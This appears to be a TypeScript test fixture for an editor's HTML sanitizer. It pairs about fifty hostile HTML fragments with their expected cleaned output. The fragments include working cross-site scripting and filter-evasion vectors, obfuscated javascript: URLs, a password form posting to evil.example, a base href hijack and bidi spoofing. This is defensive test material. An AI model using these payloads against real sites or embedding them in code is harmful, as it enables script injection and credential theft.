import type { Fragment } from "./fragment";

const run = "window.pwned=1";
const hostile = (name: string, html: string, blocks: string): Fragment => ({ name, html, blocks });
/** An address that must become no link. */
const address = (name: string, href: string): Fragment =>
  hostile(`a link to ${name}`, `<p>a <a href="${href}">b</a> c</p>`, "a b c");

export const hostileFragments: Fragment[] = [
  hostile("a script", `<p>a</p><script>${run}</script><p>b</p>`, "a\n\nb"),
  hostile("a script in a picture's error", `<p>a<img src=x onerror="${run}">b</p>`, "ab"),
  hostile(
    "handlers on everything",
    `<p onclick="${run}" onmouseover="${run}" onfocus="${run}" tabindex=0 autofocus>a <b onpointerenter="${run}">b</b></p>`,
    "a **b**",
  ),
  hostile("a handler without quotes, in capitals", `<P ONMOUSEOVER=${run}>a</P>`, "a"),
  hostile("a handler after a slash", `<p/onclick=${run}/x>a</p>`, "a"),
  hostile(
    "a drawing that runs",
    `<svg onload="${run}"><script>${run}</script><text>x</text></svg><p>a</p>`,
    "a",
  ),
  hostile(
    "a drawing with HTML in it",
    `<svg><foreignObject><p>x</p><img src=x onerror=${run}></foreignObject></svg><p>a</p>`,
    "a",
  ),
  hostile(
    "a drawing that moves",
    `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>x</text></a></svg><p>a</p>`,
    "a",
  ),
  hostile(
    "MathML with a link",
    `<p>a<math><mtext><a href="javascript:${run}">x</a></mtext><maction actiontype="statusline" xlink:href="javascript:${run}">y</maction></math>b</p>`,
    "ab",
  ),
  hostile(
    "MathML that breaks out",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math><p>a</p>`,
    "a",
  ),
  hostile(
    "markup hidden in noscript",
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><p>a</p>`,
    "a",
  ),
  hostile(
    "a style",
    `<style>*{background:url(javascript:${run})} p::after{content:"x"}</style><p style="background:url(javascript:${run});position:fixed;inset:0;z-index:99999">a</p>`,
    "a",
  ),
  hostile(
    "a sheet and an import",
    `<link rel=stylesheet href="https://example.org/x.css"><style>@import "https://example.org/y.css";</style><p class="fixed inset-0">a</p>`,
    "a",
  ),
  hostile(
    "frames",
    `<iframe src="javascript:${run}" srcdoc="<script>${run}</script>">x</iframe><frameset onload=${run}><frame src="javascript:${run}"></frameset><p>a</p>`,
    "a",
  ),
  hostile(
    "a form that sends elsewhere",
    `<form action="https://evil.example/" method=post><p>a</p><input type=password autofocus onfocus=${run}><button formaction="javascript:${run}">Entra</button></form>`,
    "a",
  ),
  hostile(
    "another base",
    `<base href="https://evil.example/"><p><a href="/x">a</a></p>`,
    "[a](/x)",
  ),
  hostile(
    "a page that leaves",
    `<meta http-equiv=refresh content="0;url=javascript:${run}"><p>a</p>`,
    "a",
  ),
  hostile(
    "plug-ins",
    `<object data="data:text/html,<script>${run}</script>"><param name=x><p>x</p></object><embed src="javascript:${run}"><applet code=x></applet><p>a</p>`,
    "a",
  ),
  hostile(
    "a player that runs",
    `<video src=x onerror=${run}><source onerror=${run}></video><audio src=x onerror=${run}></audio><p>a</p>`,
    "a",
  ),
  hostile(
    "details that open and run",
    `<details open ontoggle=${run}><summary onclick=${run}>a</summary><p>b</p></details>`,
    ":::details[a]\nb\n:::",
  ),
  hostile(
    "a template with a script",
    `<template><script>${run}</script><p>x</p></template><p>a</p>`,
    "a",
  ),
  hostile("an element of somebody's own", `<x-evil onclick=${run} is="y">a</x-evil>`, "a"),
  hostile(
    "a shadow that is declared",
    `<div><template shadowrootmode=open><img src=x onerror=${run}></template>a</div>`,
    "a",
  ),
  address("javascript", `javascript:${run}`),
  address("javascript in mixed capitals", `JaVaScRiPt:${run}`),
  address("javascript in entities", `&#106;&#97;&#118;&#97;&#115;cript&colon;${run}`),
  address("javascript with a tab and a line within", `java&#9;scr&#10;ipt:${run}`),
  address("javascript after controls", `&#1;&#14; javascript:${run}`),
  address("javascript in two lines", `javascript://example.org/%0a${run}`),
  address("vbscript", "vbscript:msgbox(1)"),
  address("data", `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`),
  address("a blob", "blob:https://example.org/1"),
  address("a file", "file:///etc/passwd"),
  address("another host without a scheme", "\\\\\\\\evil.example/x"),
  address("a host with a name and a word", "https://user:word@evil.example/"),
  address("view-source and intent", "intent://x#Intent;scheme=javascript;end"),
  hostile(
    "a picture with a program in its data",
    `<p>a<img src="data:image/svg+xml,<svg onload=${run}>" alt="x">b</p>`,
    "ab",
  ),
  hostile(
    "a picture that is a page",
    `<p>a<img src="data:text/html,<script>${run}</script>">b</p>`,
    "ab",
  ),
  hostile(
    "nodes of this editor with foreign values",
    `<figure data-media="image" data-media-id="https://evil.example/x.svg" data-alt="x"></figure><div data-embed data-entry-id="javascript:${run}"></div><div data-button="primary" data-href="javascript:${run}">Pulsa</div><p>a</p>`,
    "Pulsa\n\na",
  ),
  hostile(
    "a slice that says it is ours",
    `<p data-pm-slice="0 0 []" onclick=${run}>a <a href="javascript:${run}">b</a><img src=x onerror=${run}></p><script>${run}</script>`,
    "a b",
  ),
  hostile(
    "a slice with a strange context",
    `<p data-pm-slice="9 9 -3 [&quot;iframe&quot;,{},&quot;__proto__&quot;,null]">a</p>`,
    "a",
  ),
  hostile(
    "broken markup",
    `<p>a<b>b<i>c</b>d</i></p></div></table><td>e<p><li>f`,
    "&#x61;**&#x62;_&#x63;_**_d_\n\ne\n\nf",
  ),
  hostile("an attribute that never ends", `<p>a</p><p title="x>b</p><script>${run}</script>`, "a"),
  hostile("a comment that never ends", `<p>a</p><!-- <p>b</p><script>${run}</script>`, "a"),
  hostile(
    "a comment that ends early",
    `<p>a</p><!--><img src=x onerror=${run}>--><p>b</p>`,
    "a\n\n\\-->\n\nb",
  ),
  hostile("5,000 boxes in each other", `${"<div>".repeat(5000)}a${"</div>".repeat(5000)}`, "a"),
  hostile("300 quotations in each other", `${"<blockquote>".repeat(300)}<p>a</p>`, "> > > > > > a"),
  hostile("200 lists in each other", `${"<ul><li>".repeat(200)}a`, "- a"),
  hostile(
    "a table of ragged rows and huge spans",
    `<table><tr><td colspan=99999 rowspan=99999>a</td></tr><tr><td>b<td>c</tr></table>`,
    "| a | |\n| - | - |\n| b | c |",
  ),
  hostile("bytes of zero and controls", `<p>a\u0000b\u0001c\u001b[31md\u007f</p>`, "abc\\[31md"),
  hostile(
    "words turned round",
    `<p>user\u202e\u2066// admin\u2069\u2066 only</p>`,
    "user// admin only",
  ),
  hostile("marks that nobody sees", `<p>a\u200b\u200b\ufeffb</p>`, "ab"),
  hostile("half a character", `<p>a\ud83d b</p>`, "a\ufffd b"),
  hostile(
    "a formula that links and one that never ends",
    `<p>a<span data-math>\\href{javascript:${run}}{x}</span></p>`,
    "a$\\href{javascript:window.pwned=1}{x}$",
  ),
  hostile(
    "names that objects have of themselves",
    `<p id="__proto__" name="constructor">a</p><form name=body><input name=innerHTML></form><img name=getElementById>`,
    "a",
  ),
  hostile(
    "words that are markup twice over",
    "<p>&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;lt;b&amp;gt;</p>",
    "\\<script>window\\.pwned=1\\</script> \\&lt;b\\&gt;",
  ),
];
